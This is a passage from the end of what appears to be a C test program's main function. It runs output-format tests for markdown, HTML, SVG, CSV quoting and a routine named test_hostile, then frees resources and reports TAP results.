    test_markdown_ascii(snap);
    test_html(snap);
    test_svg(snap);
    test_csv_quoting(snap); /* renames services: last */
    test_hostile();
    snapshot_free(snap);
    model_free(m);
    config_free(&cfg);
    return tap_done();
}
